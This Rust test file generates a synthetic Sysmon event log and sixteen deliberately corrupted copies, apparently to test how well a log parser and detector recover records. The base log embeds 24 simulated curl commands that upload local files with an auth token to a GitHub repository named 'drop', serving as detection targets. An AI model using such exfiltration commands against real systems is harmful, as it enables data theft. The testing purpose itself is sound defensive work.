//! One log, and what can happen to it: every kind of damage in a file of its own, with the number of records and of
//! hits that can still be read.

mod layout;

use std::fmt::Write;

use super::background::Background;
use super::host::Host;
use super::names::TOKEN;
use super::{Fixture, Log, intact};
use crate::support::clock::Ticks;
use crate::support::evtx_writer::chunk::{CHUNK_SIZE, seal_header};
use layout::{FILE_HEADER_BLOCK, Placed};

const CURL: &str = r"C:\Windows\System32\curl.exe";
const HITS: usize = 24;
/// Offset of the free-space pointer in a chunk's header.
const FREE_SPACE: usize = 48;
/// Where a chunk's header holds the checksum of its records.
const DATA_CHECKSUM: usize = 52;

/// A damaged file and the records a reader can get out of it.
struct Damaged {
    name: &'static str,
    bytes: Vec<u8>,
    /// Records and hits that a reader must find: all that the damage leaves alone.
    must: (usize, usize),
    /// Records and hits that the best reader could find.
    best: (usize, usize),
    what: &'static str,
}

/// The intact log, the damaged ones, and the table of their contents.
pub fn fixtures() -> Vec<Fixture> {
    let log = base_log();
    let base = intact("damaged/intact.evtx", log);
    let placed = base.log.as_ref().map(|log| layout::places(&base.bytes, log)).unwrap_or_default();
    assert_eq!(count(&placed).1, HITS);
    let files = damages(&base.bytes, &placed);

    let mut table = String::from("file\trecords_must\trecords_best\thits_must\thits_best\twhat is wrong\n");
    let (records, hits) = count(&placed);
    let _ = writeln!(table, "intact.evtx\t{records}\t{records}\t{hits}\t{hits}\tnothing");
    for file in &files {
        let name = file.name.rsplit('/').next().unwrap_or(file.name);
        let ((records, hits), (best_records, best_hits)) = (file.must, file.best);
        let _ = writeln!(table, "{name}\t{records}\t{best_records}\t{hits}\t{best_hits}\t{}", file.what);
    }
    let table = Fixture { path: "damaged/EXPECTED.tsv", bytes: table.into_bytes(), log: None };
    let files = files.into_iter().map(|file| Fixture { path: file.name, bytes: file.bytes, log: None });
    [base, table].into_iter().chain(files).collect()
}

/// Three chunks of an ordinary day with 24 uploads, eight or so in each chunk. Nothing in it can be joined, so that
/// every profile finds these 24 and no more.
fn base_log() -> Log {
    let mut host = Host::new("WS-2208.corp.example", Ticks::at((2026, 3, 5), "10:00:00.5000000"));
    host.act_as(r"CORP\t.aydin");
    host.go_to(r"C:\Users\t.aydin\");
    let explorer = host.running(r"C:\Windows\explorer.exe", r"C:\WINDOWS\Explorer.EXE");
    let shell = host.running(super::four_tests::POWERSHELL, "powershell");
    let background = Background::new(&mut host, &explorer);
    for number in 1..=HITS {
        for _ in 0..4 {
            background.step(&mut host);
            host.wait(1_500);
        }
        let command_line = format!(
            "\"{CURL}\" -s -X PUT -H \"Authorization: token {TOKEN}\" -d @part{number:02}.json \
             https://api.github.com/repos/df00tech-lab/drop/contents/part{number:02}.bin"
        );
        host.start(&shell, CURL, &command_line);
        host.wait(20_000);
    }
    Log::sorted(7_001, host.sysmon)
}

fn count(placed: &[Placed]) -> (usize, usize) {
    (placed.len(), placed.iter().filter(|record| record.is_hit).count())
}

#[expect(clippy::too_many_lines, reason = "a list: one damage after the other")]
fn damages(base: &[u8], placed: &[Placed]) -> Vec<Damaged> {
    let all = count(placed);
    let chunk = |number: usize| FILE_HEADER_BLOCK + number * CHUNK_SIZE;
    let edited = |edit: &dyn Fn(&mut Vec<u8>)| {
        let mut bytes = base.to_vec();
        edit(&mut bytes);
        bytes
    };
    let nothing_lost = |name, what, bytes| Damaged { name, bytes, must: all, best: all, what };
    // The second hit of the middle chunk: no other record needs its contents.
    let victim = placed.iter().filter(|record| record.is_hit && record.chunk == 1).nth(1);
    let victim = victim.expect("two hits in the middle chunk");
    let one_lost = (all.0 - 1, all.1 - 1);
    let last_chunk = placed.iter().map(|record| record.chunk).max().unwrap_or(0);
    let cut = {
        let of_last: Vec<&Placed> = placed.iter().filter(|record| record.chunk == last_chunk).collect();
        of_last[of_last.len() / 2].offset + 100
    };
    let before_cut: Vec<Placed> = placed.iter().filter(|record| record.end() <= cut).cloned().collect();
    let early = {
        let of_middle: Vec<&Placed> = placed.iter().filter(|record| record.chunk == 1).collect();
        of_middle[of_middle.len() / 2].offset
    };
    let without_late: Vec<Placed> =
        placed.iter().filter(|record| record.chunk != 1 || record.offset < early).cloned().collect();

    vec![
        Damaged {
            name: "damaged/bad-record.evtx",
            bytes: edited(&|file| file[victim.offset + 24..victim.offset + 40].fill(0xff)),
            must: one_lost,
            best: one_lost,
            what: "one record's binary XML begins with 16 bytes of ff; its sizes are right",
        },
        nothing_lost(
            "damaged/chunk-magic-gone.evtx",
            "the middle chunk's magic is zeroed; the rest of it is whole",
            edited(&|file| file[chunk(1)..chunk(1) + 8].fill(0)),
        ),
        nothing_lost(
            "damaged/header-zeroed.evtx",
            "the 4096 bytes of the file header are zero",
            edited(&|file| file[..FILE_HEADER_BLOCK].fill(0)),
        ),
        nothing_lost(
            "damaged/header-missing.evtx",
            "the file begins with its first chunk",
            base[FILE_HEADER_BLOCK..].to_vec(),
        ),
        nothing_lost(
            "damaged/header-dirty.evtx",
            "the file header says that the log was not closed",
            edited(&|file| file[120] = 1),
        ),
        nothing_lost(
            "damaged/header-stale.evtx",
            "the file header was not brought up to date: it says one chunk, and not closed",
            edited(&|file| {
                file[16..24].copy_from_slice(&0_u64.to_le_bytes());
                file[24..32].copy_from_slice(&7_002_u64.to_le_bytes());
                file[42..44].copy_from_slice(&1_u16.to_le_bytes());
                file[120] = 1;
                let checksum = crc32fast::hash(&file[..120]);
                file[124..128].copy_from_slice(&checksum.to_le_bytes());
            }),
        ),
        Damaged {
            name: "damaged/last-chunk-cut.evtx",
            bytes: base[..cut].to_vec(),
            must: count(&before_cut),
            best: count(&before_cut),
            what: "the file ends in the middle of a record of its last chunk",
        },
        nothing_lost(
            "damaged/crc-wrong.evtx",
            "the middle chunk's checksum of its records is wrong; the records are whole",
            edited(&|file| {
                file[chunk(1) + DATA_CHECKSUM] ^= 0xff;
                seal_header(&mut file[chunk(1)..chunk(2)]);
            }),
        ),
        nothing_lost(
            "damaged/chunk-header-crc-wrong.evtx",
            "the middle chunk's checksum of its header is wrong; the chunk is whole",
            edited(&|file| file[chunk(1) + 124] ^= 0xff),
        ),
        Damaged {
            name: "damaged/size-ffffffff.evtx",
            bytes: edited(&|file| file[victim.offset + 4..victim.offset + 8].fill(0xff)),
            must: one_lost,
            best: all,
            what: "one record's first size is ffffffff; its second is right",
        },
        Damaged {
            name: "damaged/size-zero.evtx",
            bytes: edited(&|file| file[victim.offset + 4..victim.offset + 8].fill(0)),
            must: one_lost,
            best: all,
            what: "one record's first size is zero; its second is right",
        },
        Damaged {
            name: "damaged/text-file.evtx",
            bytes: b"This is a note about the logs of 11 March, not one of them.\r\n".to_vec(),
            must: (0, 0),
            best: (0, 0),
            what: "a text file",
        },
        Damaged {
            name: "damaged/empty.evtx",
            bytes: Vec::new(),
            must: (0, 0),
            best: (0, 0),
            what: "no byte at all",
        },
        nothing_lost(
            "damaged/free-space-wrong.evtx",
            "the middle chunk says that its free space begins at 7fffffff",
            edited(&|file| set_free_space(&mut file[chunk(1)..chunk(2)], 0x7fff_ffff)),
        ),
        Damaged {
            name: "damaged/free-space-early.evtx",
            bytes: edited(&|file| {
                let offset = u32::try_from(early - chunk(1)).unwrap_or(0);
                set_free_space(&mut file[chunk(1)..chunk(2)], offset);
            }),
            must: count(&without_late),
            best: all,
            what: "the middle chunk says that its free space begins in the middle of its records",
        },
        nothing_lost(
            "damaged/shifted.evtx",
            "13 bytes stand before the middle chunk: it and the last one are off the grid",
            [&base[..chunk(1)], b"thirteen byte", &base[chunk(1)..]].concat(),
        ),
    ]
}

fn set_free_space(chunk: &mut [u8], offset: u32) {
    chunk[FREE_SPACE..FREE_SPACE + 4].copy_from_slice(&offset.to_le_bytes());
    seal_header(chunk);
}
